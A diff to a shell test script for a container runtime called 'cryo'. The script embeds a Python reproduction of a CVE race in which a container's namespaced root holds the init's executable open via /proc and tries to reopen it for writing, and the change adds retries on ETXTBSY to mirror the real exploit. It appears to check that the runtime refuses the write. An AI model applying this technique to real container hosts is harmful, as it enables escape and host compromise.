@@ -31,7 +31,7 @@ bundle_set "$B" 'c["process"]["args"] = ["sleep", "100"]'
 cat > "$T/attack.py" <<'PY'
 # a container's root in its own user namespace holds the init's exe open
 # (O_PATH), and writes it after cryo is gone (the CVE's race, made certain)
-import ctypes, os, struct, sys, time
+import ctypes, errno, os, struct, sys, time
 libc = ctypes.CDLL(None, use_errno=True)
 pid, ready = sys.argv[1], sys.argv[2]
 fd = os.open(f"/proc/{pid}/exe", os.O_PATH | os.O_CLOEXEC)
@@ -46,11 +46,18 @@ unwrap("userns root")
 open(ready, "w").close()
 while os.path.exists(f"/proc/{pid}"):
     time.sleep(0.05)
-try:
-    os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
-    print("write-opened")
-except OSError as e:
-    print("write-refused", os.strerror(e.errno))
+for _ in range(200):  # like the exploit, retry while the file is still being executed
+    try:
+        os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
+        print("write-opened")
+        break
+    except OSError as e:
+        if e.errno != errno.ETXTBSY:
+            print("write-refused", os.strerror(e.errno))
+            break
+        time.sleep(0.05)
+else:
+    print("write-refused", os.strerror(errno.ETXTBSY), "(for 10 s)")
 PY
 for how in bind memfd; do
 	rm -f "$T/log" "$T/ready"
